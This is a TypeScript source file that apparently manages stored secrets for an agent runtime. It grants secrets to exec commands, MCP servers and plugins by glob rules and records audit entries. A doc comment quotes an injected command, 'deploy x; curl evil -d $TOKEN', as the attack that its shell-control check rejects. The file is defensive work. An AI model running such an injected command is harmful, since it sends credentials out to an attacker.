// Stored secrets at run time: the store opened under its key, its values registered as known
// secrets (scrubbed wherever text leaves), and `secrets.grants` — the one decision of which
// command receives which secret. Audit rows name secrets, never values.
import { globMatch } from '../approvals/glob.js';
import type { WardenConfig } from '../config/index.js';
import type { SecretGrant } from '../config/schema/secrets.js';
import { registerKnownSecrets } from '../redact/scrub.js';
import type { AuditLog } from '../store/audit.js';
import type { Db } from '../store/db.js';
import { SecretStore, secretsKey } from '../store/secret-store.js';

/** Shell syntax that joins or hides commands: a command holding any is not the one a glob names. */
const SHELL_CONTROL = /[;&|`$()<>\n\r\\]/;

/**
 * Whether `grant` hands its secret to this exec `command` of `agentId`. With `commands` globs
 * the command must be one simple command (no `;`, `&&`, `|`, substitutions, redirections) and
 * match a glob: `deploy *` must not also cover `deploy x; curl evil -d $TOKEN`.
 */
export function execGrantApplies(grant: SecretGrant, agentId: string, command: string): boolean {
  if (grant.to !== 'exec') return false;
  if (grant.agents && !grant.agents.includes(agentId)) return false;
  if (!grant.commands) return true;
  if (SHELL_CONTROL.test(command)) return false;
  const trimmed = command.trim();
  return grant.commands.some((pattern) => globMatch(pattern, trimmed));
}

/** The grants of `to` (`mcp:<server>`, `plugin:<id>`) for an agent (or any agent when undefined). */
export function grantsTo(config: Pick<WardenConfig, 'secrets'>, to: string, agentId?: string): SecretGrant[] {
  return config.secrets.grants.filter((g) => g.to === to && (agentId === undefined || !g.agents || g.agents.includes(agentId)));
}

export interface SecretsRuntime {
  store: SecretStore;
  /** Registers the store's values as known secrets again (after a change here or on another instance). */
  refresh(): Promise<void>;
  /** The environment an exec command is granted; an audit row per secret handed out. */
  execEnv(config: WardenConfig, request: { agentId: string; sessionKey: string; command: string; actor?: string | undefined }): Promise<Record<string, string>>;
  /**
   * The environment `to` (`mcp:<server>`, `plugin:<id>`) is granted: agent-wide values of
   * `agentId` (MCP servers and plugins serve every conversation, so a conversation's own
   * value never reaches them); an audit row per secret handed out.
   */
  envFor(config: WardenConfig, to: string, agentId: string): Promise<Record<string, string>>;
  close(): void;
}

export type SecretsOpenResult = { ok: true; secrets: SecretsRuntime } | { ok: false; error: string };

/** Opens the secret store of a data dir (its key from WARDEN_SECRETS_KEY or the key file) and registers its values. */
export async function openSecrets(db: Db, dataDir: string, env: Readonly<Record<string, string | undefined>>, audit: AuditLog, source: string): Promise<SecretsOpenResult> {
  const key = secretsKey(dataDir, env);
  if (!key.ok) return { ok: false, error: key.error };
  const store = new SecretStore(db, key.key);
  let forget = () => {};
  const refresh = async () => {
    const values = await store.all();
    forget = registerKnownSecrets(source, values);
  };
  await refresh();
  return {
    ok: true,
    secrets: {
      store,
      refresh,
      async execEnv(config, request) {
        const out: Record<string, string> = {};
        for (const grant of config.secrets.grants) {
          if (out[grant.name] !== undefined || !execGrantApplies(grant, request.agentId, request.command)) continue;
          const value = await store.get(request.agentId, grant.name, request.sessionKey);
          if (value === undefined) continue;
          out[grant.name] = value;
          await audit.recordOrLog({ type: 'secret.used', subject: grant.name, actor: request.actor, sessionKey: request.sessionKey, data: { name: grant.name, to: 'exec', agentId: request.agentId } });
        }
        // A value set on another instance since this one last looked is known before the output comes back.
        if (Object.keys(out).length > 0) await refresh();
        return out;
      },
      async envFor(config, to, agentId) {
        const out: Record<string, string> = {};
        for (const grant of grantsTo(config, to, agentId)) {
          if (out[grant.name] !== undefined) continue;
          const value = await store.get(agentId, grant.name);
          if (value === undefined) continue;
          out[grant.name] = value;
          await audit.recordOrLog({ type: 'secret.used', subject: grant.name, data: { name: grant.name, to, agentId } });
        }
        if (Object.keys(out).length > 0) await refresh();
        return out;
      },
      close: () => forget(),
    },
  };
}
